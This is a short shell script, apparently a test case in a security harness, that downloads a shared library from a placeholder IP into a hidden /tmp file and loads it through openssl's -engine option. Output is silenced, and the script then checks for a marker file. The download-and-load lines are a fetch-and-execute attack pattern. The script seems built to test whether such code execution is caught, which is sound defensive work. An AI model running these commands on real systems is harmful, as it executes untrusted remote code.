#!/bin/sh
. /opt/case/case.sh

curl -s -o /tmp/.eng.so http://203.0.113.10/programs/preload.so
openssl rand -engine /tmp/.eng.so -hex 8 >/dev/null 2>&1 || true
test -e /tmp/reached
took_place
